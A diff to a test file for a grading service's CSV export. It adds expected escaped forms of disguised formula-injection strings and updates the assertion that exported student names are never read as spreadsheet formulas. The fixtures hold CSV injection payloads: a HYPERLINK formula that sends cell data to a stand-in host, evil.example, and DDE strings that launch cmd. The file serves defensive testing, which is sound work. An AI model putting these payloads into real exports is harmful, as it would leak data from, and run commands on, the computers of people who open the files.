@@ -200,6 +200,8 @@ def test_csv_cells_are_never_formulas(course):
 # start with blanks, a line break or an invisible character before the formula.
 DISGUISED_FORMULAS = ["\n=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", " =1+1", "\u00a0\u00a0@SUM(A1:A9)",
                       "\u200b=cmd|' /C calc'!A0", "\r\n+1+cmd|' /C calc'!A0", "\uff1d1+1", "\t -2+3"]
+DISGUISED_AS_EXPORTED = ["'\n'=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", "' =1+1", "'\u00a0\u00a0@SUM(A1:A9)",
+                         "'\u200b=cmd|' /C calc'!A0", "'\r'\n'+1+cmd|' /C calc'!A0", "'\uff1d1+1", "'\t' -2+3"]
 
 
 def test_csv_cells_behind_blanks_are_never_formulas(course):
@@ -211,7 +213,9 @@ def test_csv_cells_behind_blanks_are_never_formulas(course):
         wait_final(client, submit(client, assignment="hw6", student={"id": f"s{number}", "name": name}))
     text = client.get("/v1/grades", params={"format": "csv"}).text
     names = {row["student_id"]: row["student_name"] for row in csv.DictReader(io.StringIO(text))}
-    assert names == {f"s{n}": "'" + name for n, name in enumerate(DISGUISED_FORMULAS)}, names
+    # a quote in front, and after every separator a spreadsheet of another locale may start a cell at
+    # (tests/unit/test_spreadsheet_safe.py): a tab-separated reading starts one after "\t"
+    assert names == {f"s{n}": name for n, name in enumerate(DISGUISED_AS_EXPORTED)}, names
     honest = ["Zhang San", "李四", "O'Brien", "Ann-Marie", "x = 1"]
     for number, name in enumerate(honest):
         wait_final(client, submit(client, assignment="hw7", student={"id": f"h{number}", "name": name}))
